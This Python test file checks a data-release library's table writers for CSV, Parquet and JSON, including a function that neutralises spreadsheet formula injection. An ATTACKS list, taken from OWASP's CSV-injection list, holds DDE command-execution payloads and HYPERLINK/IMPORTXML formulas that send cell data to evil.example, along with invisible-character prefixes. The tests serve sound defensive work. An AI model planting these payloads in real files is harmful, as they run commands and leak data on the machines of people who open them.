import csv
import io
import json
import subprocess
import sys
from itertools import product
from typing import get_args

import numpy as np
import pyarrow as pa
import pytest
from pyarrow import parquet
from support.cases import in_one_test

from dpqr.releases.files.atomic import OWN_NAMES
from dpqr.releases.files.formats import FORMATS, TableFormat, write_table
from dpqr.releases.files.release_files import answer_records, answer_tables, answers_table
from dpqr.releases.files.tidy import (
    CHUNK,
    GROUP,
    NO_TEXT,
    Texts,
    Tidy,
    arrow_table,
    free_column_name,
    inert,
    plain_values,
    write_parquet,
)


@pytest.fixture
def table(release):
    return answers_table(release)


@pytest.mark.parametrize("form", FORMATS)
def test_a_table_reads_back_as_the_same_rows_in_pieces_too_and_equal_tables_give_equal_bytes(
    form, table, release, tmp_path
):
    write_table(table, tmp_path / "whole", form)
    FORMATS[form].files.write(answer_tables(release, 4), tmp_path / "pieces")
    whole, pieces = (path.read_bytes() for path in (tmp_path / "whole", tmp_path / "pieces"))
    if form == "parquet":
        assert parquet.read_table(tmp_path / "whole").to_pylist() == table.records()
        read = parquet.ParquetFile(tmp_path / "pieces")
        assert (read.num_row_groups, read.read().to_pylist()) == (4, table.records())
    else:
        assert pieces == whole
    if form == "csv":
        rows = list(csv.DictReader(io.StringIO(whole.decode(), newline="")))
        expected = [{key: "" if value is None else value for key, value in row.items()} for row in table.records()]
        for row, wanted in zip(rows, expected, strict=True):
            same = {key: float(value) if isinstance(wanted[key], float) else value for key, value in row.items()}
            assert same == wanted
    write_table(table, tmp_path / "again", form)
    assert (tmp_path / "again").read_bytes() == whole


def test_json_is_an_array_of_records_one_a_line(table, release, tmp_path):
    write_table(table, tmp_path / "a.json", "json")
    text = (tmp_path / "a.json").read_text(encoding="utf-8")
    assert json.loads(text) == answer_records(release)
    assert len(text.splitlines()) == table.rows + 2


def test_only_csv_makes_labels_and_names_inert(tmp_path):
    table = Tidy(3, {"=label": Texts(np.array([0, 1, -1]), ["=1+1", "-1"]), "figure": np.array([-1.0, np.nan, 2.5])})
    for form in ("csv", "parquet", "json"):
        write_table(table, tmp_path / f"a.{form}", form)
    assert (tmp_path / "a.csv").read_text() == '"\'=label","figure"\n"\'=1+1",-1.0\n"-1",\n,2.5\n'
    assert parquet.read_table(tmp_path / "a.parquet").to_pydict() == {
        "=label": ["=1+1", "-1", None],
        "figure": [-1.0, None, 2.5],
    }
    assert json.loads((tmp_path / "a.json").read_text())[1] == {"=label": "-1", "figure": None}


def test_quotes_line_ends_and_letters_of_any_script_survive(tmp_path):
    titles = ['a "b", c', "two\nlines", "\u00e9\u4e16", ""]
    write_table(Tidy(4, {"x,y": Texts(np.arange(4), titles)}), tmp_path / "a.csv", "csv")
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["x,y"], *([title] for title in titles)]


def test_more_rows_than_are_written_at_a_time(tmp_path):
    rows = 2 * CHUNK + 1
    table = Tidy(rows, {"x": np.arange(rows), "t": Texts(np.arange(rows) % 3 - 1, ["a", "b"])})
    write_table(table, tmp_path / "a.csv", "csv")
    lines = (tmp_path / "a.csv").read_text().splitlines()
    assert lines[1:] == [
        f"{row},{('', chr(34) + 'a' + chr(34), chr(34) + 'b' + chr(34))[row % 3]}" for row in range(rows)
    ]


@in_one_test("form", ["csv", "parquet", "json"])
def test_a_table_without_rows(form, tmp_path):
    write_table(Tidy(0, {"t": Texts(np.array([], dtype=np.int8), ["a"]), "x": np.array([])}), tmp_path / "a", form)
    if form == "parquet":
        assert parquet.read_table(tmp_path / "a").to_pydict() == {"t": [], "x": []}
    else:
        text = (tmp_path / "a").read_text()
        assert text == '"t","x"\n' if form == "csv" else json.loads(text) == []


def test_json_refuses_what_is_no_json_number(tmp_path):
    with pytest.raises(ValueError, match="no JSON number"):
        write_table(Tidy(1, {"x": np.array([np.inf])}), tmp_path / "a.json", "json")


@pytest.mark.slow
def test_csv_and_json_need_no_arrow(tmp_path):
    """A job that reads CSV and writes CSV starts sooner and is smaller without."""
    code = (
        "import sys; from pathlib import Path; import numpy as np;"
        "from dpqr.releases.files.formats import write_table;"
        "from dpqr.releases.files.tidy import Tidy;"
        "[write_table(Tidy(1, {'x': np.ones(1)}), Path(sys.argv[1], form), form) for form in ('csv', 'json')];"
        "print('pyarrow' in sys.modules)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=True)
    assert done.stdout == "False\n"


ATTACKS = (
    "=1+1",
    '=1+1";=1+1',
    "=1+1'\" ;,=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe66" + "1",
    "\ufe62" + "A1",
    "\ufe63" + "A1",
    "\ufe6b" + "A1",
    "\u2212A1",
)
"""OWASP's list (CSV injection), and the signs' other forms."""
BEFORE = (
    *" \t\n\x0b\x0c\r\x1c\x1d\x1e\x1f\x85\xa0\0\x08\x1b\x7f\x9b",
    *"\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000",
    *"\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\u2066\u2069\u061c\u180e\ufeff\xad\ufffe",
    *"\u034f\u115f\u3164\uffa0\u2800\ufe0f",
    "\U000e0020",
    "  ",
    "\ufeff \xa0\t",
    " '",
)
"""What a spreadsheet drops, or does not show."""


@in_one_test("text", ["=1+1", "+cmd", "-a", "@SUM(A1)", "\tx", "\rx", "\nx", "-5 <= age", "--1", "\uff1d1", "="])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@in_one_test(
    "text",
    [
        *("-1", "+2.5", "-1e-9", "1", ".5", "<= 30", "[-5, 10)", "F", "", "a=b", "'tis", "(null)"),
        *(" F", "\xa0[0, 10)", "a =1", "\ufeffyes", "1-2", " ", "(=)", "''"),
    ],
)
def test_numbers_harmless_labels_and_white_space_alone_stay(text):
    assert inert(text) == text


def test_labels_stay_distinct_and_can_be_restored():
    labels = ["=x", "'=x", "''=x", "x", "'x", "-1", "'-1"]
    written = [inert(label) for label in labels]
    assert len(set(written)) == len(labels)
    assert written[:3] == ["'=x", "''=x", "'''=x"]


@in_one_test("attack", ATTACKS)
def test_a_formula_is_found_behind_whatever_does_not_show(attack):
    assert inert(attack) == "'" + attack
    for before in BEFORE:
        assert inert(before + attack) == "'" + before + attack
        assert inert("'" + before + attack) == "''" + before + attack


@in_one_test("attack", [*ATTACKS, *(before + "=1+1" for before in BEFORE)])
def test_in_a_file_the_cell_is_one_cell_and_no_formula(tmp_path, attack):
    path = tmp_path / "t.csv"
    write_table(Tidy(2, {attack: Texts(np.array([0, 1]), [attack, "plain"]), "x": np.array([1, 2])}), path, "csv")
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(io.StringIO(file.read(), newline="")))
    assert rows == [["'" + attack, "x"], ["'" + attack, "1"], ["plain", "2"]]


def test_tables_lie_below_each_other_in_groups_of_bounded_size(tmp_path) -> None:
    """A name that is not UTF-8 is one as well."""
    path = tmp_path / "t\udcff.parquet"
    tables = [pa.table({"x": range(GROUP + 1)}), pa.table({"x": [7]})]
    write_parquet(iter(tables), path)
    with path.open("rb") as file:
        read = parquet.ParquetFile(file)
        assert [read.metadata.row_group(place).num_rows for place in range(3)] == [GROUP, 1, 1]
        assert read.read()["x"].to_pylist() == [*range(GROUP + 1), 7]


TEXTS = Texts(np.array([1, NO_TEXT, 0, 1], dtype=np.int8), ["a", "b"])


def test_texts_are_looked_up_each_title_once_and_nothing_is_none() -> None:
    shown: list[str] = []
    column = TEXTS.shown(lambda title: shown.append(title) or title.upper(), "-")
    assert (column.rows(), column.rows(slice(2, 9)), shown) == (["B", "-", "A", "B"], ["A", "B"], ["a", "b"])
    assert plain_values(Texts(np.array([NO_TEXT]), [])) == [None]
    assert plain_values(np.array([1.5, np.nan])) == [1.5, None]
    records = Tidy(4, {"t": TEXTS, "n": np.arange(4)}).records()
    assert records[:2] == [{"t": "b", "n": 0}, {"t": None, "n": 1}]


def test_parquet_stores_each_title_once_and_nothing_as_null() -> None:
    table = arrow_table(
        Tidy(4, {"t": Texts(np.array([0, 1, 2, -1], dtype=np.int8), ["a", "b", "a"]), "x": np.array([np.nan, 1, 2, 3])})
    )
    assert pa.types.is_dictionary(table.schema.field("t").type)
    assert table.to_pydict() == {"t": ["a", "b", "a", None], "x": [None, 1.0, 2.0, 3.0]}
    assert table["t"].chunk(0).dictionary.to_pylist() == ["a", "b"]


RESERVED = ("query", "detail")


@in_one_test(
    ("name", "column"),
    [
        ("age", "age"),
        ("column_age", "column_age"),
        ("query", "column_query"),
        ("Query", "column_Query"),
        ("column_query", "column_column_query"),
        ("queries", "queries"),
    ],
)
def test_only_clashing_names_move(name, column):
    assert free_column_name(RESERVED, name) == column


def test_no_two_attributes_meet_each_other_or_a_reserved_column():
    names = [
        "".join(parts) for parts in product(("", "column_", "column_column_"), ("query", "detail", "age", "QUERY"))
    ]
    columns = [free_column_name(RESERVED, name) for name in names]
    assert len(set(columns)) == len(names)
    assert not {column.casefold() for column in columns} & set(RESERVED)


@in_one_test("name", FORMATS)
def test_what_a_format_writes_it_reads_back(name, tmp_path):
    files, path = FORMATS[name].files, tmp_path / f"a.{name}"
    titles = ["=1+1", "'tis", "'-x", "two\nlines", "\u00e9"]
    texts, figures = np.array([4, 3, 2, 1, 0, -1]), np.array([0.1, -2.0, np.nan, 1e300, 3.0, 0.0])
    write_table(Tidy(6, {"label": Texts(texts, titles), "estimate": figures}), path, name)
    read = files.read(path)
    shown = [None if text is None else files.label(text) for text in read["label"].to_pylist()]
    assert shown == ["\u00e9", "two\nlines", "'-x", "'tis", "=1+1", None]
    assert read["estimate"].to_pylist() == [0.1, -2.0, None, 1e300, 3.0, 0.0]
    assert files.read(path, only=["estimate"]).column_names == ["estimate"]
    assert files.column_names(path) in (None, ["label", "estimate"])
    assert files.declared_rows(path) in (None, 6)


def test_every_format_is_a_choice_of_the_command_line_and_a_name_of_a_file():
    assert get_args(TableFormat) == tuple(FORMATS)
    assert all(OWN_NAMES.fullmatch(f"answers.{name}") for name in FORMATS)
    assert not OWN_NAMES.fullmatch("answers.tsv")
